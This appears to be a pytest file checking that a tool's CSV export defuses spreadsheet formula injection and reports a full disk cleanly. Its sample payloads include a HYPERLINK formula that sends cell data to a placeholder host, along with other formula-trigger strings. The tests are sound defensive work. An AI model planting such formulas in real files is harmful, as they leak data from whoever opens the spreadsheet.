"""Formula injection (issue 16): text a spreadsheet would run as a formula is exported as text,
unless the export is for a machine (``raw``); numbers and Parquet files are never altered."""

from __future__ import annotations

import pyarrow as pa
import pyarrow.parquet as pq

from regulars.services.exports import export_table, spreadsheet_safe
from regulars.services.imports import import_file

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)")


def test_exported_csv_neutralises_formulas_unless_raw(workspace, tmp_path):
    source = tmp_path / "customers.csv"
    source.write_text(
        "customer_id,email,first_name\n"
        + "".join(
            f'c{i},c{i}@example.org,"{v.replace(chr(34), chr(34) * 2)}"\n'
            for i, v in enumerate(HOSTILE)
        )
        + "c9,c9@example.org,Plain-Name\n"
    )
    import_file(workspace, "customers", source)
    safe = tmp_path / "safe.csv"
    export_table(workspace, "customers", safe)
    text = safe.read_text()
    for value in HOSTILE:
        assert f"'{value}".replace('"', '""') in text, value
    assert "Plain-Name" in text and "'Plain-Name" not in text
    raw = tmp_path / "raw.csv"
    export_table(workspace, "customers", raw, raw=True)
    assert "'=" not in raw.read_text() and "+1+1" in raw.read_text()
    parquet = tmp_path / "all.parquet"
    export_table(workspace, "customers", parquet)
    assert set(HOSTILE) <= set(pq.read_table(parquet)["first_name"].to_pylist())


def test_only_text_cells_are_prefixed():
    rows = pa.table({"n": [-5, 3], "s": ["-5", None], "t": ["\tx", "ok"]})
    safe = spreadsheet_safe(rows)
    assert safe["n"].to_pylist() == [-5, 3]
    assert safe["s"].to_pylist() == ["'-5", None]
    assert safe["t"].to_pylist() == ["'\tx", "ok"]


def test_a_full_disk_is_a_store_failure_not_a_traceback(duckdb_workspace, tmp_path):
    """The CLI exits 74 with a message; /dev/full answers every write with ENOSPC (issue 16)."""
    import os
    import subprocess
    import sys

    workspace = duckdb_workspace  # the export's write is the same on both backends
    workspace.close()
    target = tmp_path / "orders.csv"
    (tmp_path / "orders.csv.partial").symlink_to("/dev/full")
    done = subprocess.run(
        [sys.executable, "-m", "regulars", "export", "orders", "--to", str(target)],
        env={**os.environ, "REGULARS_WORKSPACE": str(workspace.path)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 74, done.stderr[-500:]
    assert "no space left" in done.stderr and "Traceback" not in done.stderr
